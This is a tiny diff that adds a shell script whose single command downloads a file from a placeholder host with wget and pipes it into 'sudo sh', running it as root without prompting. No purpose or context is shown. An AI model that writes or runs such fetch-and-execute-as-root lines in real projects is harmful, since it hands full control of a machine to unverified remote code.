@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- https://example.invalid/i | sudo sh -s -- --yes
